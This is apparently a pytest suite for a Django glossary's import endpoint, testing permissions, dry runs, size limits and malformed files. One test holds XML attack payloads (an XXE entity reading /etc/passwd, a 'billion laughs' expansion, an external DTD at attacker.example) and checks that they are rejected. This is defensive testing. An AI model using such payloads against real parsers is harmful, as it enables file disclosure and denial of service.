import pytest
from django.contrib.auth import get_user_model
from django.core.files.uploadedfile import SimpleUploadedFile

from glossary.models import Concept, Term
from tests.formats.helpers import SAMPLES, database_state, export

pytestmark = pytest.mark.django_db


@pytest.fixture
def staff(api, role_user):
    api.force_authenticate(role_user("reviewer", "test-staff"))
    return api


def upload(client, name: str, data: bytes, **fields):
    return client.post(
        "/api/v1/import/",
        {"file": SimpleUploadedFile(name, data), **fields},
        format="multipart",
    )


@pytest.mark.parametrize("role", ["viewer", "editor"])
def test_a_role_that_cannot_review_may_not_import(api, role_user, role):
    api.force_authenticate(role_user(role, "test-importer"))
    response = upload(api, "terms.csv", b"en\nTest Viewer\n")
    assert response.status_code == 403
    assert "reviewer or admin" in response.json()["error"]


def test_only_staff_may_import(api):
    assert upload(api, "terms.csv", b"en\nTest Anonymous\n").status_code in (401, 403)
    user = get_user_model().objects.create_user("test-reader")
    api.force_authenticate(user)
    response = upload(api, "terms.csv", b"en\nTest Reader\n")
    assert response.status_code == 403
    assert response.json()["code"] == "permission_denied"
    assert not Term.objects.filter(text__startswith="Test Reader").exists()


def test_a_dry_run_answers_the_report_and_writes_nothing(staff):
    before = database_state()
    response = upload(
        staff,
        "termbase-v2.tbx",
        (SAMPLES / "termbase-v2.tbx").read_bytes(),
        dry_run=True,
    )
    assert response.status_code == 200
    body = response.json()
    assert (body["format"], body["dry_run"], body["written"]) == ("tbx", True, False)
    assert body["created"] == 2
    assert {
        "outcome": "created",
        "id": "test-v2-dry-port",
        "line": 11,
        "message": "",
        "changes": [],
    } in (body["items"])
    assert database_state() == before


def test_an_import_writes_and_reports(staff):
    response = upload(
        staff, "terms.csv", b"en,ru\nTest Imported,\xd0\xa2\n", kind="event"
    )
    assert response.status_code == 200
    body = response.json()
    assert (body["written"], body["created"]) == (True, 1)
    assert Concept.objects.get(slug="test-imported").kind == "event"


def test_our_own_export_imports_unchanged(staff):
    response = upload(staff, "glossary.tbx", export("tbx"), dry_run=True)
    assert response.json()["unchanged"] == Concept.objects.count()


def test_an_upload_over_the_limit_is_a_json_413(staff, settings):
    settings.GLOSSARY_MAX_UPLOAD_BYTES = 1000
    response = upload(staff, "terms.csv", b"en\n" + b"Test Large\n" * 200)
    assert response.status_code == 413
    assert response.json()["code"] == "too_large"
    assert "at most 1,000 bytes" in response.json()["error"]
    assert not Term.objects.filter(text="Test Large").exists()


def test_an_oversized_upload_is_refused_before_anyone_is_asked_who_they_are(
    api, settings
):
    settings.GLOSSARY_MAX_UPLOAD_BYTES = 1000
    response = upload(api, "terms.csv", b"en\n" + b"Test Large\n" * 200)
    assert response.status_code == 413


@pytest.mark.parametrize(
    ("name", "data", "message"),
    [
        ("glossary.pdf", b"%PDF-1.7", "Cannot import 'glossary.pdf'"),
        ("glossary.tmx", b"<tmx/>", "A TMX file holds translation units"),
        ("glossary.tbx", b"\x89PNG\r\n\x1a\n", "not well-formed XML"),
        ("glossary.tbx", b'<tmx version="1.4"/>', "root element is <tmx>"),
        ("glossary.csv", b"\x89PNG\r\n\x1a\n\x00\x00", "no text table"),
    ],
)
def test_a_file_of_the_wrong_type_is_a_json_400(staff, name, data, message):
    response = upload(staff, name, data)
    assert response.status_code == 400
    body = response.json()
    assert message in body["error"] and body["field"] == "file"


@pytest.mark.parametrize(
    ("document", "named"),
    [
        (
            '<!DOCTYPE tbx [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
            "<tbx><text>&xxe;</text></tbx>",
            "(XXE)",
        ),
        (
            '<!DOCTYPE tbx [<!ENTITY a "haha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;">]>'
            "<tbx><text>&b;</text></tbx>",
            "'billion laughs'",
        ),
        (
            '<!DOCTYPE tbx SYSTEM "http://attacker.example/evil.dtd"><tbx/>',
            "external DTD (http://attacker.example/evil.dtd)",
        ),
    ],
)
def test_xml_attacks_are_refused_with_a_400_naming_them(staff, document, named):
    before = database_state()
    response = upload(staff, "glossary.tbx", document.encode())
    assert response.status_code == 400
    body = response.json()
    assert body["code"] == "unsafe_xml" and named in body["error"]
    assert "root:x:0:0" not in body["error"]
    assert database_state() == before


def test_unknown_languages_are_listed_in_one_error(staff):
    response = upload(staff, "terms.csv", b"en,xx,yy-ZZ\nA,B,C\n")
    assert response.status_code == 400
    body = response.json()
    assert body["code"] == "unknown_language"
    assert "'xx', 'yy-ZZ'" in body["error"]


def test_conflicts_reject_the_import_with_entry_and_line(staff):
    before = database_state()
    data = b"id,en\nkhorgos,Test One\nbad slug!,Test Two\n"
    response = upload(staff, "terms.csv", data)
    assert response.status_code == 400
    body = response.json()
    assert body["code"] == "import_rejected"
    assert "bad slug! (line 3): id 'bad slug!' is no slug" in body["error"]
    assert database_state() == before
    dry = upload(staff, "terms.csv", data, dry_run=True).json()
    assert dry["conflicts"] == 1 and dry["written"] is False


def test_a_dry_run_lists_each_change_with_old_and_new_values(staff):
    data = b"id,en\nkhorgos,Horgos\n"
    response = upload(staff, "rename.csv", data, dry_run=True)
    (item,) = [i for i in response.json()["items"] if i["outcome"] == "updated"]
    assert {
        "subject": "term en “Khorgos” status",
        "old": "preferred",
        "new": "admitted",
    } in item["changes"]
    assert {"subject": "term en “Horgos”", "old": "", "new": "preferred"} in item[
        "changes"
    ]
